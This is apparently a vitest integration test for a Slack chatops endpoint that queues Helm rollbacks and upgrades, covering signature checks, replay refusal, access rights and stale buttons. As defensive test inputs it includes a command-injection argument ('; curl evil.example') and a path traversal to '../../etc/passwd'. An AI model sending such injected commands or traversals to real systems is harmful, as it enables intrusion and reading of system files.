import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ACTION_IDS,
  AccessPolicy,
  ChatSettings,
  encodeHistoryButton,
  encodeRollbackButton,
  parseGrant,
} from '../../lib/chatops/index.ts';
import { systemClock } from '../../lib/domain/index.ts';
import { CHANNEL, type ChatWorld, CLUSTER, startChatWorld } from './world.ts';

/*
 * The chat function's handler behind a Function URL, with real signed requests as Slack sends them:
 * every attack is refused with a clear answer and changes nothing; who may do what is checked.
 */
describe('the chat endpoint', () => {
  let world: ChatWorld;
  let policy: AccessPolicy;
  const blog = { cluster: CLUSTER, namespace: 'tools', name: 'blog' };
  const where = `-n tools --cluster ${CLUSTER}`;

  beforeAll(async () => {
    world = await startChatWorld();
    policy = new AccessPolicy({ driver: world.driver, clock: systemClock });
    await world.recordRevisions(blog, 3);
    await policy.grant(
      parseGrant({ subject: 'slack:UALICE', right: 'rollback', cluster: CLUSTER, namespace: 'tools' }),
    );
    await policy.grant(parseGrant({ subject: 'slack:UALICE', right: 'read', namespace: 'tools' }));
    await policy.grant(parseGrant({ subject: 'slack:UBOB', right: 'deploy', release: 'blog' }));
    await policy.grant(
      parseGrant({ subject: 'slack-group:S0ONCALL', right: 'rollback', namespace: 'tools' }),
    );
    await new ChatSettings(world.driver).addRepository({
      name: 'bitnami',
      url: 'oci://registry-1.docker.io/bitnamicharts',
    });
  }, 60_000);
  afterAll(() => world?.close());

  it('queues a rollback for a user with the right: ephemeral "queued", a DeployRequest naming who asked through chatops', async () => {
    const reply = await world.slash(`/quayside rollback blog 1 ${where}`, 'alice');
    expect(reply.status).toBe(200);
    expect(reply.text).toMatch(
      /^:hourglass_flowing_sand: Queued: rollback of blog in prod\/tools to revision 1 \(request `slack-/,
    );
    const [request, ...more] = await world.drainQueue();
    expect(more).toEqual([]);
    expect(request).toMatchObject({
      version: 'v1',
      action: 'rollback',
      release: blog,
      revision: 1,
      requestedBy: { principal: 'slack:UALICE (alice)', channel: 'chatops' },
    });
    expect(world.logs.join('')).toMatch(
      /"message":"access allowed".*"subject":"slack:UALICE".*"right":"rollback".*"grant":"rollback slack:UALICE on prod\/tools\/\*"/,
    );
  });

  it('refuses a forged signature, a body altered after signing, a stale timestamp and a replay — before reading anything, changing nothing', async () => {
    const forged = await world.slash(`rollback blog 1 ${where}`, 'alice', { secret: 'guessed' });
    expect(forged).toEqual({ status: 401, text: 'refused: the Slack signature does not match the request' });
    const altered = await world.slash(`rollback blog 1 ${where}`, 'alice', {
      body: (b) => b.replace('blog+1', 'blog+2'),
    });
    expect(altered.status).toBe(401);
    expect(altered.text).toBe('refused: the Slack signature does not match the request');
    const stale = await world.slash(`rollback blog 1 ${where}`, 'alice', {
      timestamp: Math.floor(Date.now() / 1000) - 301,
    });
    expect(stale.status).toBe(401);
    expect(stale.text).toMatch(
      /^refused: the request was signed 30\d s away from now; Slack requests are accepted within 5 minutes$/,
    );
    expect(await world.drainQueue()).toEqual([]);
    expect(world.logs.join('')).toMatch(/"reason":"bad-signature"/);
  });

  it('accepts each signed request once: the same request sent again is refused', async () => {
    const { slashCommandBody, slackHeaders, postToChat } = await import('../../lib/chatops/index.ts');
    const body = slashCommandBody({
      text: `rollback blog 2 ${where}`,
      user: { id: 'UALICE', name: 'alice' },
      channel: CHANNEL,
    });
    const headers = slackHeaders(world.signingSecret, body, Math.floor(Date.now() / 1000));
    expect((await postToChat(world.url, body, headers)).status).toBe(200);
    const again = await postToChat(world.url, body, headers);
    expect(again).toEqual({
      status: 401,
      text: 'refused: this signed request was already received; each is accepted once',
    });
    expect(await world.drainQueue()).toHaveLength(1);
  });

  it('refuses a user it does not know: default deny, naming the missing right and the release', async () => {
    const reply = await world.slash(`rollback blog 1 ${where}`, 'mallory');
    expect(reply.status).toBe(200);
    expect(reply.text).toBe(
      ':no_entry: mallory may not do that: the right `rollback` on prod/tools/blog is missing (rights never imply each other). An operator can grant it: `quayside access grant rollback slack:UMALLORY --cluster … --namespace … --release …`',
    );
    expect(await world.drainQueue()).toEqual([]);
    expect(world.logs.join('')).toMatch(
      /"message":"access denied".*"subject":"slack:UMALLORY".*"allowed":false/,
    );
  });

  it('lets a user with rollback but not deploy roll back, and not upgrade', async () => {
    const upgrade = await world.slash(`upgrade blog bitnami/ghost@21.1.0 ${where}`, 'alice');
    expect(upgrade.text).toMatch(/alice may not do that: the right `deploy` on prod\/tools\/blog is missing/);
    expect(await world.drainQueue()).toEqual([]);
    // bob may deploy blog (anywhere), and so queues an upgrade from a registered OCI repository.
    const bob = await world.slash(
      `upgrade blog bitnami/ghost@21.1.0 --set image.tag=5 --atomic ${where}`,
      'bob',
    );
    expect(bob.text).toMatch(
      /Queued: upgrade of blog in prod\/tools to bitnami\/ghost 21\.1\.0 with 1 --set value\(s\), not shown/,
    );
    const [request] = await world.drainQueue();
    expect(request).toMatchObject({
      action: 'upgrade',
      chart: { oci: 'oci://registry-1.docker.io/bitnamicharts/ghost', version: '21.1.0' },
      set: ['image.tag=5'],
      options: { atomic: true },
      requestedBy: { principal: 'slack:UBOB (bob)', channel: 'chatops' },
    });
    // Nor does deploy imply rollback or read.
    expect((await world.slash(`rollback blog ${where}`, 'bob')).text).toMatch(
      /the right `rollback` on prod\/tools\/blog is missing/,
    );
    expect((await world.slash(`status blog ${where}`, 'bob')).text).toMatch(
      /the right `read` on prod\/tools\/blog is missing/,
    );
  });

  it('allows through a Slack user group, read from Slack only when the policy names groups', async () => {
    const reply = await world.slash(`rollback blog 2 ${where}`, 'dave');
    expect(reply.text).toMatch(/^:hourglass_flowing_sand: Queued: rollback of blog/);
    expect(world.slack.calls).toContain('usergroups.list');
    await world.drainQueue();
  });

  it('refuses shell metacharacters and path traversal in arguments clearly, queueing nothing', async () => {
    const meta = await world.slash(`rollback blog 1; curl evil.example ${where}`, 'alice');
    expect(meta.text).toMatch(/^:warning: argument 3 holds ";", a shell metacharacter: refused/);
    expect(meta.text).toContain('/quayside rollback RELEASE [REVISION]');
    const traversal = await world.slash(`upgrade blog ../../etc/passwd ${where}`, 'bob');
    expect(traversal.text).toMatch(/argument 3 holds a path traversal \(\.\.\): refused/);
    const path = await world.slash(`upgrade blog /srv/charts/ghost ${where}`, 'bob');
    expect(path.text).toMatch(/charts never come from a path/);
    expect(await world.drainQueue()).toEqual([]);
  });

  it('answers status, history and diff to readers from the store, never with values', async () => {
    const status = await world.slash(`status blog ${where}`, 'alice');
    expect(status.text).toMatch(/\*blog\* in prod\/tools: revision \d+ \*deployed\*/);
    const history = await world.slash(`history blog --max 2 ${where}`, 'alice');
    expect(history.text).toMatch(/REVISION +UPDATED +STATUS +CHART +APP VERSION +DESCRIPTION +BY/);
    const diff = await world.slash(`diff blog 1 ${where}`, 'alice');
    expect(diff.text).toMatch(/What rolling \*blog\* back to 1 would change \(revision 3 → 1\)/);
    expect(diff.text).toMatch(/~ configmap\/blog \(\d+ lines?\)/);
    expect(diff.text).not.toMatch(/revision: "\d"/);
    const help = await world.slash('help', 'nobody');
    expect(help.text).toContain('/quayside rollback RELEASE [REVISION]');
  });

  it('takes the namespace from the channel when the command names none', async () => {
    await new ChatSettings(world.driver).setChannel({
      channel: CHANNEL,
      cluster: CLUSTER,
      namespace: 'tools',
    });
    const reply = await world.slash('rollback blog 1', 'alice');
    expect(reply.text).toMatch(/Queued: rollback of blog in prod\/tools to revision 1/);
    await world.drainQueue();
    await new ChatSettings(world.driver).unsetChannel(CHANNEL);
    // Without defaults and without a service default cluster, it says how to give one.
    expect((await world.slash('rollback blog 1', 'alice')).text).toMatch(/no cluster: give --cluster/);
  });

  it('rolls back from a button carrying its guard, and refuses a stale button without touching a newer deploy', async () => {
    const summary = await world.store.getRelease(blog);
    const latest = summary?.latestRevision as number;
    const fresh = await world.click(
      ACTION_IDS.rollback,
      encodeRollbackButton({ release: blog, to: latest - 1, guard: latest }),
      'alice',
    );
    expect(fresh).toEqual({ status: 200, text: '' });
    const [request] = await world.drainQueue();
    expect(request).toMatchObject({ action: 'rollback', revision: latest - 1, guard: { revision: latest } });
    const ephemeral = world.slack.posts.at(-1);
    expect(ephemeral).toMatchObject({ method: 'chat.postEphemeral', channel: CHANNEL, user: 'UALICE' });
    expect(ephemeral?.text).toMatch(/Queued: rollback of blog/);

    const stale = await world.click(
      ACTION_IDS.rollback,
      encodeRollbackButton({ release: blog, to: 1, guard: latest - 1 }),
      'alice',
    );
    expect(stale.status).toBe(200);
    expect(await world.drainQueue()).toEqual([]);
    expect(world.slack.posts.at(-1)?.text).toBe(
      `:warning: Nothing was rolled back: this button was made when revision ${latest - 1} of blog was the latest, and revision ${latest} is now. A stale button never rolls back a newer deploy. To roll back to 1 anyway, type \`/quayside rollback blog 1 -n tools --cluster prod\`.`,
    );
    // A click is authorized like a typed command.
    await world.click(
      ACTION_IDS.rollback,
      encodeRollbackButton({ release: blog, to: 1, guard: latest }),
      'mallory',
    );
    expect(world.slack.posts.at(-1)?.text).toMatch(/mallory may not do that: the right `rollback`/);
    await world.click(ACTION_IDS.history, encodeHistoryButton(blog), 'alice');
    expect(world.slack.posts.at(-1)?.text).toMatch(/History of \*blog\* in prod\/tools/);
    expect(await world.drainQueue()).toEqual([]);
    expect(world.slack.violations).toEqual([]);
  });

  it('refuses a button value it did not make, and anything that is not a form post', async () => {
    await world.click(ACTION_IDS.rollback, '{"release":"prod/tools/../x","to":1,"guard":2}', 'alice');
    expect(world.slack.posts.at(-1)?.text).toBe('this button is not one quayside knows; nothing was done');
    const get = await fetch(world.url);
    expect(get.status).toBe(405);
    expect(await world.drainQueue()).toEqual([]);
  });
});
